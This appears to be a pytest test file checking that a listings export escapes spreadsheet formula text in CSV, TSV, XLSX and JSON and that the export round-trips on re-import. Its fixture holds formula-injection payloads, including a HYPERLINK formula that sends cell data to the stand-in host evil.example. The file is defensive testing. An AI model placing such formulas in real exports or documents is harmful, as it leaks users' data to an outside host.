"""The listing export is formula-safe in every format, and re-imports to the same values."""

import csv
import io
import json

import openpyxl
import pytest

from core.spreadsheet_cells import escape_formula, unescape_formula
from locks.listing_import import COLUMNS, export_listings, import_listings
from properties.models import Listing
from tests.factories import DeviceFactory, ListingFactory, LockAssignmentFactory, PropertyFactory

pytestmark = pytest.mark.django_db

EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1,"x")'
EVIL_PROPERTY = "=1+2"
PHONE_ID = "+351912345678"


@pytest.fixture
def hostile(org_a):
    """Listings whose text a spreadsheet would run as formulas."""
    prop = PropertyFactory(organization=org_a.organization, name=EVIL_PROPERTY)
    evil = ListingFactory(property=prop, name=EVIL_NAME, external_id=PHONE_ID, code_length=8)
    minus = ListingFactory(property=prop, name="-1 floor studio", external_id="-42")
    at = ListingFactory(property=prop, name="@home", external_id="=A1", code_length=4)
    LockAssignmentFactory(
        listing=evil, device=DeviceFactory(connection=org_a.device.connection, name="@Gate")
    )
    return org_a, [evil, minus, at]


def rows_of(data: bytes, fmt: str) -> list[dict]:
    """The exported cells, as a spreadsheet (or a JSON reader) sees them."""
    if fmt in ("csv", "tsv"):
        reader = csv.reader(
            io.StringIO(data.decode("utf-8-sig"), newline=""),
            delimiter="," if fmt == "csv" else "\t",
        )
        header, *rows = list(reader)
        return [dict(zip(header, row, strict=True)) for row in rows]
    if fmt == "json":
        return json.loads(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    header, *rows = list(book.active.iter_rows())
    for row in rows:
        for cell in row:
            # Text is a string cell, never a formula (openpyxl reads a formula as data_type f).
            assert cell.data_type in ("s", "inlineStr", "n"), (
                cell.coordinate,
                cell.value,
                cell.data_type,
            )
    return [
        {
            h.value: (c.value if c.value is not None else "")
            for h, c in zip(header, row, strict=True)
        }
        for row in rows
    ]


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx", "json"])
def test_formula_like_text_is_exported_as_escaped_text(hostile, fmt):
    org, _listings = hostile

    data = export_listings(
        listings=Listing.objects.filter(organization=org.organization), file_format=fmt
    )

    by_id = {row["external_id"]: row for row in rows_of(data, fmt)}
    evil = by_id["'" + PHONE_ID]
    assert evil["name"] == "'" + EVIL_NAME
    assert evil["property"] == "'" + EVIL_PROPERTY
    assert evil["secondary_locks"] == "'@Gate"
    assert by_id["'-42"]["name"] == "'-1 floor studio"
    assert by_id["'=A1"]["name"] == "'@home"
    # A plain word is left as it is, and numbers stay numbers where the format has them.
    assert by_id[org.listing.external_id]["name"] == "Alpha Flat"
    assert evil["code_length"] == ("8" if fmt in ("csv", "tsv") else 8)
    for row in by_id.values():
        for column in COLUMNS:
            value = row[column]
            assert not (isinstance(value, str) and value[:1] in "=+-@\t\r" and value), value


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx", "json"])
def test_an_exported_file_reimports_to_the_same_values(hostile, fmt):
    org, listings = hostile
    scope = Listing.objects.filter(organization=org.organization)
    data = export_listings(listings=scope, file_format=fmt)
    before = list(scope.order_by("pk").values("name", "external_id", "property__name"))

    again = import_listings(organization=org.organization, data=data, file_format=fmt)

    assert again.problems == []
    assert {row.action for row in again.plan.rows} == {"skip"}  # nothing differs
    # The file's text is the listing's own: a changed name is put back exactly.
    Listing.objects.filter(pk=listings[0].pk).update(name="renamed")
    restored = import_listings(organization=org.organization, data=data, file_format=fmt)
    assert restored.problems == [] and restored.written
    assert list(scope.order_by("pk").values("name", "external_id", "property__name")) == before
    assert Listing.objects.get(pk=listings[0].pk).name == EVIL_NAME


def test_the_one_rule_escapes_every_formula_start_and_nothing_else():
    for text in ("=1", "+1", "-1", "@a", "\tx", "\rx"):
        assert escape_formula(text) == "'" + text
        assert unescape_formula(escape_formula(text)) == text
    for value in ("plain", "'quoted word", "", 5, -5, 2.5, None, True):
        assert escape_formula(value) == value
        assert unescape_formula(value) == value
